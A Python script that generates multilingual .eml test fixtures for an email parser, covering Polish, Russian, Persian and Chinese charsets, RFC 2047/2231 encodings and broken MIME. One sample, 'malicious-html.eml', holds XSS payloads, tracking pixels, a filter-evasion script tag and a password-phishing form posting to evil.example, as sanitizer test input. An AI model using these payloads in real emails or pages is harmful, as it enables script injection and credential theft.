#!/usr/bin/env python3
"""Writes the .eml samples of tests/unit/email/data: real-world-shaped messages in every charset Threadline reads,
encoded with Python's codecs (the same tables as iconv). Run it from anywhere; it rewrites the files beside it.
The files are committed; this script documents how they were made and recreates them."""
import base64
import os
import quopri

HERE = os.path.dirname(os.path.abspath(__file__))


def ew(text, charset, mode="B"):
    """An RFC 2047 encoded word."""
    raw = text.encode(charset)
    if mode == "B":
        return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode())
    encoded = "".join(
        "_" if b == 0x20 else (chr(b) if (48 <= b <= 57 or 65 <= b <= 90 or 97 <= b <= 122) else "=%02X" % b)
        for b in raw)
    return "=?%s?Q?%s?=" % (charset, encoded)


def b64(data):
    text = base64.b64encode(data).decode()
    return "\n".join(text[i:i + 76] for i in range(0, len(text), 76))


def qp(data):
    return quopri.encodestring(data).decode("ascii")


def write(name, head, body=b""):
    """head: str (ASCII headers, \n line ends); body: bytes or str (ASCII)."""
    if isinstance(body, str):
        body = body.encode("ascii")
    data = head.replace("\n", "\r\n").encode("ascii") + b"\r\n" + body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


# 1. Polish, UTF-8, quoted-printable, a Thunderbird-style reply with "W dniu … pisze:" and a "> " quote.
pl_text = ("Dzień dobry,\n\nzamówienie 4471 nadal nie dotarło. Proszę o sprawdzenie, gdzie jest paczka.\n\n"
           "Pozdrawiam\nJan Kowalski\n\n"
           "W dniu 02.11.2026 o 09:15, Obsługa Klienta pisze:\n"
           "> Dzień dobry Panie Janie,\n> paczka wyjdzie w czwartek.\n")
write("utf8-polish.eml",
      "Return-Path: <jan.kowalski@example.pl>\n"
      "Received: from mail.example.pl (mail.example.pl [192.0.2.10])\n\tby mx.sklep.example; Tue, 3 Nov 2026 10:20:05 +0100\n"
      "From: " + ew("Jan Kowalski", "UTF-8", "Q") + " <Jan.Kowalski@Example.PL>\n"
      "To: =?UTF-8?Q?Obs=C5=82uga_Klienta?= <pomoc@sklep.example>\n"
      "Subject: Re: " + ew("Zamówienie 4471 — gdzie jest paczka?", "UTF-8", "Q") + "\n"
      "Date: Tue, 3 Nov 2026 10:20:00 +0100\n"
      "Message-ID: <CAF4471.jk@mail.example.pl>\n"
      "In-Reply-To: <tl-4471-1@sklep.example>\n"
      "References: <CAF4471.first@mail.example.pl>\n <tl-4471-1@sklep.example>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/plain; charset=UTF-8; format=flowed\n"
      "Content-Transfer-Encoding: quoted-printable\n",
      qp(pl_text.encode("utf-8")))

# 2. Polish, ISO-8859-2, 8bit body, Q-encoded subject.
pl2 = "Dzień dobry,\n\nproszę o fakturę za zamówienie 5120. Płatność była przelewem.\n\nZażółć gęślą jaźń.\nAnna Nowak\n"
write("iso-8859-2.eml",
      "From: " + ew("Anna Nowak", "ISO-8859-2", "Q") + " <anna.nowak@example.pl>\n"
      "To: pomoc@sklep.example\n"
      "Subject: " + ew("Prośba o fakturę", "ISO-8859-2", "Q") + "\n"
      "Date: Wed, 4 Nov 2026 08:00:00 +0100\n"
      "Message-ID: <iso2-5120@example.pl>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/plain; charset=\"iso-8859-2\"\n"
      "Content-Transfer-Encoding: 8bit\n",
      pl2.encode("iso-8859-2"))

# 3. Polish, windows-1250, quoted-printable, with a PDF whose name is an RFC 2231 UTF-8 parameter.
pl3 = "Witam,\n\nw załączniku reklamacja ekspresu — grzałka przestała działać po tygodniu.\n\nŁukasz Świątek\n"
write("windows-1250.eml",
      "From: " + ew("Łukasz Świątek", "windows-1250", "B") + " <lukasz@example.pl>\n"
      "To: pomoc@sklep.example\n"
      "Subject: " + ew("Reklamacja — ekspres nie grzeje", "windows-1250", "Q") + "\n"
      "Date: Thu, 5 Nov 2026 12:30:00 +0100\n"
      "Message-ID: <cp1250-reklamacja@example.pl>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: multipart/mixed; boundary=\"----=_NextPart_000_0001\"\n",
      ("This is a multi-part message in MIME format.\n\n"
       "------=_NextPart_000_0001\n"
       "Content-Type: text/plain; charset=\"windows-1250\"\n"
       "Content-Transfer-Encoding: quoted-printable\n\n" + qp(pl3.encode("windows-1250")) + "\n"
       "------=_NextPart_000_0001\n"
       "Content-Type: application/pdf\n"
       "Content-Transfer-Encoding: base64\n"
       "Content-Disposition: attachment; filename*=UTF-8''Reklamacja%20%C5%BC%C3%B3%C5%82ta%20grza%C5%82ka.pdf\n\n"
       + b64(b"%PDF-1.4\n% reklamacja\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n") + "\n"
       "------=_NextPart_000_0001--\n"))

# 4. Russian, KOI8-R, base64 body, B-encoded subject, a Thunderbird-style Russian reply.
ru = ("Здравствуйте!\n\nКофемолку получила, но она не та: заказывала ручную, пришла электрическая.\n\n"
      "Ольга Смирнова\n\n"
      "02.11.2026 09:15, Служба поддержки написал(а):\n"
      "> Добрый день, Ольга!\n> Заказ 5120 отправлен.\n")
write("koi8-r.eml",
      "From: " + ew("Ольга Смирнова", "KOI8-R", "B") + " <olga.smirnova@example.ru>\n"
      "To: support@shop.example\n"
      "Subject: " + ew("Re: Заказ 5120", "KOI8-R", "B") + "\n"
      "Date: Mon, 9 Nov 2026 14:02:00 +0300\n"
      "Message-ID: <koi8-5120@example.ru>\n"
      "In-Reply-To: <tl-5120@shop.example>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/plain; charset=koi8-r\n"
      "Content-Transfer-Encoding: base64\n",
      b64(ru.encode("koi8_r")) + "\n")

# 5. Russian, windows-1251: multipart/alternative (plain + HTML), an attachment named by an Outlook-style
#    RFC 2047 encoded word in windows-1251.
ru2 = "Добрый день!\n\nПрошу вернуть деньги за заказ № 6031. Чек во вложении.\n\nС уважением,\nИгорь Петров\n"
ru2_html = ("<html><body><p>Добрый день!</p><p>Прошу вернуть деньги за заказ № 6031. Чек во вложении.</p>"
            "<p>С уважением,<br>Игорь Петров</p></body></html>")
write("windows-1251.eml",
      "From: " + ew("Игорь Петров", "windows-1251", "B") + " <igor.petrov@example.ru>\n"
      "To: support@shop.example\n"
      "Subject: " + ew("Возврат денег, заказ № 6031", "windows-1251", "B") + "\n"
      "Date: Tue, 10 Nov 2026 11:00:00 +0300\n"
      "Message-ID: <cp1251-6031@example.ru>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: multipart/mixed; boundary=\"mixed-6031\"\n",
      ("--mixed-6031\n"
       "Content-Type: multipart/alternative; boundary=\"alt-6031\"\n\n"
       "--alt-6031\n"
       "Content-Type: text/plain; charset=\"windows-1251\"\n"
       "Content-Transfer-Encoding: base64\n\n" + b64(ru2.encode("cp1251")) + "\n"
       "--alt-6031\n"
       "Content-Type: text/html; charset=\"windows-1251\"\n"
       "Content-Transfer-Encoding: base64\n\n" + b64(ru2_html.encode("cp1251")) + "\n"
       "--alt-6031--\n\n"
       "--mixed-6031\n"
       "Content-Type: image/jpeg; name=\"" + ew("Чек.jpg", "windows-1251", "B") + "\"\n"
       "Content-Transfer-Encoding: base64\n"
       "Content-Disposition: attachment; filename=\"" + ew("Чек.jpg", "windows-1251", "B") + "\"\n\n"
       + b64(b"\xff\xd8\xff\xe0fake-jpeg-receipt\xff\xd9") + "\n"
       "--mixed-6031--\n"))

# 6. Persian, windows-1256. The code page has neither the Persian yeh (ی) nor Persian digits: Windows Persian
#    mail writes the Arabic yeh (ي) and ASCII digits, and so does this sample.
def persian_1256(text):
    return text.replace("ی", "ي").replace("۶۰۳۸", "6038")


fa = persian_1256("سلام،\n\nسفارش شماره ۶۰۳۸ من هنوز نرسیده. لطفاً پیگیری کنید.\n\nمریم احمدی\n")
write("windows-1256.eml",
      "From: " + ew(persian_1256("مریم احمدی"), "windows-1256", "B") + " <maryam.ahmadi@example.ir>\n"
      "To: support@shop.example\n"
      "Subject: " + ew(persian_1256("پیگیری سفارش"), "windows-1256", "B") + "\n"
      "Date: Fri, 13 Nov 2026 10:10:00 +0330\n"
      "Message-ID: <cp1256-6038@example.ir>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/plain; charset=windows-1256\n"
      "Content-Transfer-Encoding: quoted-printable\n",
      qp(fa.encode("cp1256")))

# 7. Chinese, labelled gb2312 but holding a GBK-only character (喆), as mailers do; a Gmail-style 写道： quote.
zh = ("您好：\n\n我收到的咖啡机底部漏水，申请退换。订单号 7719。\n\n李喆\n\n"
      "客服 <support@shop.example> 于2026年11月15日周日 09:15写道：\n> 您好，您的订单已发货。\n")
write("gb2312.eml",
      "From: " + ew("李喆", "gbk", "B").replace("=?gbk?", "=?gb2312?") + " <li.zhe@example.cn>\n"
      "To: support@shop.example\n"
      "Subject: " + ew("咖啡机漏水，申请退换", "gb2312", "B") + "\n"
      "Date: Mon, 16 Nov 2026 10:10:00 +0800\n"
      "Message-ID: <20261116101000.7719@mail.example.cn>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/plain; charset=\"gb2312\"\n"
      "Content-Transfer-Encoding: base64\n",
      b64(zh.encode("gbk")) + "\n")

# 8. Chinese, GB18030 with a character outside GBK (𠮷, four bytes in GB18030).
zh18030 = "您好：\n\n包裹上写的收件人是“𠮷田”，不是我。请帮忙查一下。\n\n王芳\n"
write("gb18030.eml",
      "From: " + ew("王芳", "gb18030", "B") + " <wang.fang@example.cn>\n"
      "To: support@shop.example\n"
      "Subject: " + ew("收件人错误", "gb18030", "B") + "\n"
      "Date: Tue, 17 Nov 2026 09:00:00 +0800\n"
      "Message-ID: <gb18030-8801@mail.example.cn>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/plain; charset=GB18030\n"
      "Content-Transfer-Encoding: 8bit\n",
      zh18030.encode("gb18030"))

# 9. Traditional Chinese, Big5.
big5 = "您好：\n\n我訂的咖啡豆還沒有收到，請問什麼時候會寄出？\n\n陳志明\n"
write("big5.eml",
      "From: " + ew("陳志明", "big5", "B") + " <chen.zm@example.tw>\n"
      "To: support@shop.example\n"
      "Subject: " + ew("咖啡豆何時寄出", "big5", "B") + "\n"
      "Date: Wed, 18 Nov 2026 15:45:00 +0800\n"
      "Message-ID: <big5-9902@example.tw>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/plain; charset=big5\n"
      "Content-Transfer-Encoding: base64\n",
      b64(big5.encode("big5")) + "\n")

# 10. Undeclared 8-bit: windows-1251 Russian with no charset at all, raw 8-bit Subject too.
ru3 = "Добрый вечер! Курьер не приехал, я ждала весь день. Что теперь делать?\n"
write("undeclared-8bit.eml",
      "From: Tatiana <tatiana@example.ru>\n"
      "To: support@shop.example\n"
      "Subject: PLACEHOLDER\n"
      "Date: Thu, 19 Nov 2026 19:30:00 +0300\n"
      "Message-ID: <undeclared-1251@example.ru>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/plain\n"
      "Content-Transfer-Encoding: 8bit\n",
      ru3.encode("cp1251"))
with open(os.path.join(HERE, "undeclared-8bit.eml"), "rb") as f:
    data = f.read().replace(b"PLACEHOLDER", "Курьер не приехал".encode("cp1251"))
with open(os.path.join(HERE, "undeclared-8bit.eml"), "wb") as f:
    f.write(data)

# 11. A wrong charset label: declared UTF-8, written in windows-1251.
write("wrong-charset-label.eml",
      "From: Sergei <sergei@example.ru>\n"
      "To: support@shop.example\n"
      "Subject: Wrong label\n"
      "Date: Fri, 20 Nov 2026 08:00:00 +0300\n"
      "Message-ID: <wrong-label@example.ru>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/plain; charset=utf-8\n"
      "Content-Transfer-Encoding: 8bit\n",
      "Здравствуйте, посылка пришла повреждённой.\n".encode("cp1251"))

# 12. RFC 2231 continuations (with a charset and percent-encoding, split across three parameters).
write("rfc2231-continuation.eml",
      "From: =?UTF-8?Q?Piotr_Wi=C5=9Bniewski?= <piotr@example.pl>\n"
      "To: pomoc@sklep.example\n"
      "Subject: =?UTF-8?B?WmRqxJljaWEgdXN6a29kemVuaWE=?=\n"
      "Date: Sat, 21 Nov 2026 09:00:00 +0100\n"
      "Message-ID: <rfc2231@example.pl>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: multipart/mixed; boundary=\"b2231\"\n",
      ("--b2231\n"
       "Content-Type: text/plain; charset=us-ascii\n\n"
       "Photos of the damage attached.\n"
       "--b2231\n"
       "Content-Type: image/png\n"
       "Content-Transfer-Encoding: base64\n"
       "Content-Disposition: attachment;\n"
       " filename*0*=UTF-8''Zdj%C4%99cie%20uszkodzonego%20;\n"
       " filename*1*=opakowania%20%E2%80%94%20;\n"
       " filename*2=\"strona 2.png\"\n\n"
       + b64(b"\x89PNG\r\n\x1a\nfake-png") + "\n"
       "--b2231\n"
       "Content-Type: application/octet-stream; name=\"" + ew("说明书.txt", "UTF-8", "B") + "\"\n"
       "Content-Transfer-Encoding: base64\n"
       "Content-Disposition: attachment; filename=\"" + ew("说明书.txt", "UTF-8", "B") + "\"\n\n"
       + b64("说明".encode("utf-8")) + "\n"
       "--b2231--\n"))

# 13. Nested multiparts: mixed → (alternative → (plain, related → (html, cid image)), PDF).
write("nested-multipart.eml",
      "From: Sarah Mitchell <sarah.m@fastmail.example>\n"
      "To: support@shop.example\n"
      "Cc: Tom Mitchell <tom.m@fastmail.example>\n"
      "Subject: Order 8830 - photo of the parcel\n"
      "Date: Wed, 18 Nov 2026 12:10:00 +0000\n"
      "Message-ID: <CAK8830.sm@mail.fastmail.example>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: multipart/mixed; boundary=\"outer\"\n",
      ("--outer\n"
       "Content-Type: multipart/alternative; boundary=\"alt\"\n\n"
       "--alt\n"
       "Content-Type: text/plain; charset=utf-8\n\n"
       "Here is the parcel as it arrived.\n\n"
       "--alt\n"
       "Content-Type: multipart/related; boundary=\"rel\"; type=\"text/html\"\n\n"
       "--rel\n"
       "Content-Type: text/html; charset=utf-8\n\n"
       "<p>Here is the parcel as it arrived.</p><img src=\"cid:parcel@fastmail\" alt=\"parcel\">\n"
       "--rel\n"
       "Content-Type: image/png\n"
       "Content-Transfer-Encoding: base64\n"
       "Content-ID: <parcel@fastmail>\n\n"
       + b64(b"\x89PNG\r\n\x1a\nparcel") + "\n"
       "--rel--\n\n"
       "--alt--\n\n"
       "--outer\n"
       "Content-Type: application/pdf; name=\"invoice-8830.pdf\"\n"
       "Content-Transfer-Encoding: base64\n"
       "Content-Disposition: attachment; filename=\"invoice-8830.pdf\"\n\n"
       + b64(b"%PDF-1.4 invoice 8830") + "\n"
       "--outer--\n"))

# 14. HTML only, with an Outlook-style blockquote history and entities.
write("html-only.eml",
      "From: Marek <marek@example.pl>\n"
      "To: pomoc@sklep.example\n"
      "Subject: =?UTF-8?Q?Pytanie_o_dostaw=C4=99?=\n"
      "Date: Sun, 22 Nov 2026 18:00:00 +0100\n"
      "Message-ID: <html-only@example.pl>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/html; charset=utf-8\n"
      "Content-Transfer-Encoding: quoted-printable\n",
      qp(("<html><head><title>ignored</title><style>p{color:red}</style></head><body>"
          "<div>Dzień dobry,</div><div>czy dostawa w sobotę jest możliwa?&nbsp;Płacę &amp; czekam.</div>"
          "<ul><li>ekspres</li><li>młynek</li></ul>"
          "<div>Marek</div>"
          "<div class=\"gmail_quote\">W dniu 20.11.2026 o 10:00, Obsługa pisze:<br>"
          "<blockquote>Dzień dobry, dostawy są od poniedziałku do piątku.</blockquote></div>"
          "</body></html>").encode("utf-8")))

# 15. Malicious HTML.
write("malicious-html.eml",
      "From: Attacker <evil@example.com>\n"
      "To: support@shop.example\n"
      "Subject: Invoice\n"
      "Date: Mon, 23 Nov 2026 07:00:00 +0000\n"
      "Message-ID: <malicious@example.com>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: multipart/related; boundary=\"m\"\n",
      ("--m\n"
       "Content-Type: text/html; charset=utf-8\n\n"
       "<html><head><style>@import url(https://tracker.example/a.css); body{background:url('https://tracker.example/bg.png')}"
       " .x{width:expression(alert(1))}</style>"
       "<script>alert('head')</script></head>"
       "<body onload=\"steal()\"><p style=\"background-image:url(http://tracker.example/p.gif);color:blue\">Please pay the invoice.</p>"
       "<img src=\"https://tracker.example/pixel.gif?id=42\" alt=\"pixel\" width=\"1\">"
       "<img src=x onerror=\"alert(1)\">"
       "<img src=\"cid:logo@example\" alt=\"logo\">"
       "<a href=\"javascript:alert(1)\">click</a> <a href=\"https://example.com/pay\" onclick=\"x()\">pay</a>"
       "<iframe src=\"https://evil.example/frame\"></iframe>"
       "<form action=\"https://evil.example/login\"><input name=\"password\"><button>Log in</button></form>"
       "<svg><script>alert(2)</script></svg>"
       "<div style=\"background: u\\72l(https://tracker.example/escaped.png)\">escaped</div>"
       "<table background=\"https://tracker.example/table.png\"><tr><td>cell</td></tr></table>"
       "<scr<script>ipt>alert(3)</script>"
       "</body></html>\n"
       "--m\n"
       "Content-Type: image/png\n"
       "Content-ID: <logo@example>\n"
       "Content-Transfer-Encoding: base64\n\n"
       + b64(b"\x89PNG\r\n\x1a\nlogo") + "\n"
       "--m--\n"))

# 16. Broken MIME: the closing boundary is missing.
write("missing-boundary-end.eml",
      "From: Ewa <ewa@example.pl>\n"
      "To: pomoc@sklep.example\n"
      "Subject: Broken\n"
      "Date: Tue, 24 Nov 2026 09:00:00 +0100\n"
      "Message-ID: <missing-end@example.pl>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: multipart/mixed; boundary=\"never-closed\"\n",
      ("--never-closed\n"
       "Content-Type: text/plain; charset=utf-8\n\n"
       "The first part arrived.\n"
       "--never-closed\n"
       "Content-Type: text/plain; charset=utf-8\n"
       "Content-Disposition: attachment; filename=\"notes.txt\"\n\n"
       "notes that run to the end of the file\n"))

# 17. Broken MIME: bad base64 in the body and in an attachment.
write("bad-base64.eml",
      "From: Ewa <ewa@example.pl>\n"
      "To: pomoc@sklep.example\n"
      "Subject: Bad base64\n"
      "Date: Tue, 24 Nov 2026 09:05:00 +0100\n"
      "Message-ID: <bad-base64@example.pl>\n"
      "MIME-Version: 1.0\n"
      "Content-Type: multipart/mixed; boundary=\"b64\"\n",
      ("--b64\n"
       "Content-Type: text/plain; charset=utf-8\n"
       "Content-Transfer-Encoding: base64\n\n"
       + base64.b64encode("Treść wiadomości".encode("utf-8")).decode()[:-3] + "!!*\n"
       "--b64\n"
       "Content-Type: application/octet-stream; name=\"data.bin\"\n"
       "Content-Transfer-Encoding: base64\n\n"
       "AAEC$$$AwQF\n"
       "--b64--\n"))

# 18. Outlook reply (English) with -----Original Message----- and a From:/Sent: block.
write("outlook-reply.eml",
      "From: \"Kowalczyk, Adam\" <adam.kowalczyk@corp.example>\n"
      "To: support@shop.example\n"
      "Subject: RE: Quote for 20 grinders\n"
      "Date: Wed, 25 Nov 2026 13:00:00 +0100\n"
      "Message-ID: <outlook-reply@corp.example>\n"
      "Thread-Index: AdlXYZ==\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/plain; charset=\"us-ascii\"\n",
      ("Thanks, we accept the quote. Please send the invoice.\n\n"
       "Adam\n\n"
       "-----Original Message-----\n"
       "From: Support <support@shop.example>\n"
       "Sent: Tuesday, November 24, 2026 4:00 PM\n"
       "To: Kowalczyk, Adam <adam.kowalczyk@corp.example>\n"
       "Subject: Quote for 20 grinders\n\n"
       "Dear Adam, the price is 20 x 350 EUR.\n"))

# 19. No Date and no Message-ID: the date falls back to Received, the id to a hash.
write("no-date-no-id.eml",
      "Received: from relay.example.org by mx.shop.example; Thu, 26 Nov 2026 06:30:00 +0000\n"
      "From: noreply-less@example.org\n"
      "To: support@shop.example\n"
      "Subject: no date\n"
      "MIME-Version: 1.0\n"
      "Content-Type: text/plain; charset=utf-8\n",
      "A message without Date or Message-ID.\n")

# 20. Raw (unencoded) UTF-8 in Subject and From, as many webmailers send.
raw8 = ("From: Zofia Wójcik <zofia@example.pl>\n"
        "To: pomoc@sklep.example\n"
        "Subject: Zwrot towaru — ekspres\n"
        "Date: Fri, 27 Nov 2026 10:00:00 +0100\n"
        "Message-ID: <raw-utf8@example.pl>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n"
        "\n"
        "Chcę zwrócić ekspres.\n").replace("\n", "\r\n").encode("utf-8")
with open(os.path.join(HERE, "raw-8bit-headers.eml"), "wb") as f:
    f.write(raw8)
